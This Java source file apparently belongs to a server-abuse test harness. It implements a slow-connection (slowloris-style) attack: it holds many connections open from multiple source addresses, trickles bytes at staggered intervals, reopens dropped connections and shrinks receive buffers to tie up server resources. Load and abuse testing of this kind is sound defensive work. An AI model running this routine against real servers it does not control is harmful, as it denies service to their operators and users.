package io.streamlocks.proof.abuse.attack;

import java.io.IOException;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.jspecify.annotations.Nullable;

/**
 * Many connections that one thread keeps open. Each sends some bytes at first and a few more at intervals. A connection
 * that ends is opened again.
 *
 * @param count the number of connections
 * @param addresses the number of addresses from which they come
 * @param first the bytes that each sends at first
 * @param more the bytes that each sends after each interval
 * @param every the interval
 * @param reads whether responses are read
 */
record SlowConnections(int count, int addresses, byte[] first, byte[] more, Duration every, boolean reads) {

    /** The number of steps of a round, so that the connections do not all begin at once. */
    private static final int STEPS = 30;

    /** This buffer is small, so that an unread response stays with the server. */
    private static final int RECEIVE_BUFFER = 4096;

    /** Blocks until the attack is over. */
    void run(Target target) throws InterruptedException {
        List<Slow> all = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            all.add(new Slow(target, i % addresses));
        }
        for (int step = 0; !target.isOver(); step = (step + 1) % STEPS) {
            for (int i = step; i < count; i += STEPS) {
                all.get(i).goOn();
            }
            TimeUnit.NANOSECONDS.sleep(every.toNanos() / STEPS);
        }
        all.forEach(Slow::close);
    }

    private final class Slow {

        private final Target target;
        private final int address;
        private final ByteBuffer answer = ByteBuffer.allocate(512);
        private @Nullable SocketChannel channel;
        private ByteBuffer unsent = ByteBuffer.allocate(0);

        Slow(Target target, int address) {
            this.target = target;
            this.address = address;
        }

        void goOn() {
            try {
                SocketChannel open = channel;
                if (open == null) {
                    open();
                } else if (open.isConnected() || open.finishConnect()) {
                    if (!unsent.hasRemaining()) {
                        unsent = ByteBuffer.wrap(more);
                    }
                    send(open);
                }
            } catch (IOException e) {
                target.tally().add("ended by the server");
                close();
            }
        }

        private void open() throws IOException {
            unsent = ByteBuffer.wrap(first);
            SocketChannel opened = SocketChannel.open();
            channel = opened;
            opened.configureBlocking(false);
            if (!reads) {
                opened.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER);
            }
            opened.bind(Target.source(address));
            target.tally().add("opened");
            if (opened.connect(target.address())) {
                send(opened);
            }
        }

        private void send(SocketChannel to) throws IOException {
            to.write(unsent);
            if (!reads) {
                return;
            }
            answer.clear();
            int read = to.read(answer);
            if (read < 0) {
                throw new IOException("ended");
            }
            // "HTTP/1.1 408 ..."
            if (read > 12) {
                target.tally().add(new String(answer.array(), 9, 3, StandardCharsets.US_ASCII));
            }
        }

        void close() {
            try {
                if (channel != null) {
                    channel.close();
                }
            } catch (IOException e) {
                // The connection is of no more use in any case.
            }
            channel = null;
        }
    }
}
